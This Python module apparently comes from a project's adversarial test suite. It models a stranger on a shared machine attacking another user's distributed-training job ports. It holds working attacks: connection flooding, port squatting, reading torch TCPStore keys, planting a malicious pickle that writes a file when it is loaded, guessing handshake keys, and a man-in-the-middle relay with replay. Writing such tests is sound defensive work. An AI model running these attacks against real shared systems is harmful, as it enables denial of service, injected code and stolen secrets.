"""What a stranger does to the ports of another user's job."""

from __future__ import annotations

import contextlib
import os
import pickle
import select
import socket
import time
from datetime import timedelta
from typing import Any

from contrib.attack.hands import run


def connected(host: str, port: int) -> socket.socket | None:
    try:
        return socket.create_connection((host, port), timeout=2)
    except OSError:
        return None


def idle(host: str, ports: list[int], seconds: float) -> None:
    """Hold 300 connections that say nothing, and add 20 a second."""
    end, held = time.monotonic() + seconds, []
    for _ in range(300 // len(ports)):
        held += [c for c in (connected(host, port) for port in ports) if c]
    print(f"{len(held)} idle connections", flush=True)
    while time.monotonic() < end:
        held += [c for c in (connected(host, port) for port in ports) if c]
        time.sleep(0.05)


def send_bytes(host: str, ports: list[int], seconds: float) -> None:
    """Send random bytes without an end, on 4 connections."""
    end, sent = time.monotonic() + seconds, 0
    # Where a length is expected first, it is a large one.
    block = b"\x7f" + os.urandom(1 << 16).replace(b"\n", b"x")
    print("sends", flush=True)
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            found = [c for c in (connected(host, port) for port in ports * 4) if c]
            for _ in range(16 * 64):
                for connection in found:
                    connection.settimeout(2)
                    sent += connection.send(block)
        time.sleep(0.05)
    print(f"sent {sent >> 20} MB", flush=True)


def squat(_host: str, ports: list[int], seconds: float) -> None:
    """Listen, and answer nothing."""
    held = []
    for port in ports:
        listener = socket.socket()
        with contextlib.suppress(OSError):
            listener.bind(("", port))
            listener.listen(64)
            held.append(listener)
    print(f"listens on {len(held)} of {len(ports)} ports", flush=True)
    time.sleep(seconds)


def keys(host: str, ports: list[int]) -> dict[str, str]:
    """Return the readable keys and values of a TCPStore."""
    import torch.distributed as dist  # noqa: PLC0415 - the others need no torch

    store = dist.TCPStore(
        host, ports[0], is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2)
    )
    found: dict[str, str] = {}
    for key in store.list_keys() if hasattr(store, "list_keys") else []:
        with contextlib.suppress(Exception):
            found[str(key)] = store.get(str(key)).decode("latin-1")[:2000]
    return found


class Bomb:
    """A pickle of this object creates a file where it is read."""

    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (self._path, "w"))


def pickles(host: str, _ports: list[int], seconds: float, uid_and_path: list[str]) -> dict[str, str]:
    """Replace all values of each torch TCPStore of a user by pickles that make a file; return what was there."""
    import torch.distributed as dist  # noqa: PLC0415 - the others need no torch

    (uid, path), end, found = uid_and_path, time.monotonic() + seconds, {}
    print("ready", flush=True)
    while time.monotonic() < end:
        for port in find(uid):
            with contextlib.suppress(Exception):
                found |= {f"{port} {key}": value for key, value in keys(host, [port]).items()}
                store = dist.TCPStore(
                    host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2)
                )
                for key in store.list_keys():
                    store.set(str(key), pickle.dumps(Bomb(path)))
        time.sleep(0.1)
    return found


def guess(host: str, ports: list[int], _seconds: float, guesses: list[str]) -> list[str]:
    """Greet with each of the keys; return those that are right."""
    from pollux.ranks.links import NoAnswer, connect  # noqa: PLC0415 - the others need it not

    right = []
    for word in guesses:
        for purpose in ("ranks", "launchers"):
            with contextlib.suppress(NoAnswer):
                connect(host, ports, word.encode(), purpose, b"{}", 3.0).close()
                right.append(word)
    return right


def find(uid: str) -> list[int]:
    """Return the ports at which a user listens, which Linux shows to all: torch's store listens on IPv6. proc(5)."""
    with open("/proc/net/tcp6", encoding="ascii") as file:
        rows = [line.split() for line in file][1:]
    return [int(r[1].rpartition(":")[2], 16) for r in rows if r[3] == "0A" and r[7] == uid]


def relay(host: str, ports: list[int], seconds: float) -> str:
    """Stand between a client and its server; return what the client sent, as hexadecimal digits."""
    here, there = ports
    listener = socket.create_server(("", here))
    listener.settimeout(seconds)
    print("listens", flush=True)
    client, _ = listener.accept()
    server = socket.create_connection((host, there), timeout=5)
    sent, ends = b"", {client: server, server: client}
    while True:
        readable, _, _ = select.select(list(ends), [], [], 5.0)
        if not readable:
            break
        data = readable[0].recv(1 << 16)
        if not data:
            break
        sent += data if readable[0] is client else b""
        ends[readable[0]].sendall(data)
    return sent.hex()


def replay(host: str, ports: list[int], _seconds: float, sent: str) -> str:
    """Send recorded bytes, in hexadecimal digits; return what comes back."""
    connection = connected(host, ports[0])
    assert connection is not None
    connection.sendall(bytes.fromhex(sent))
    connection.settimeout(3.0)
    received = b""
    with contextlib.suppress(OSError):
        while data := connection.recv(1 << 16):
            received += data
    return received.hex()


if __name__ == "__main__":
    run(idle, send_bytes, squat, keys, pickles, guess, relay, replay)
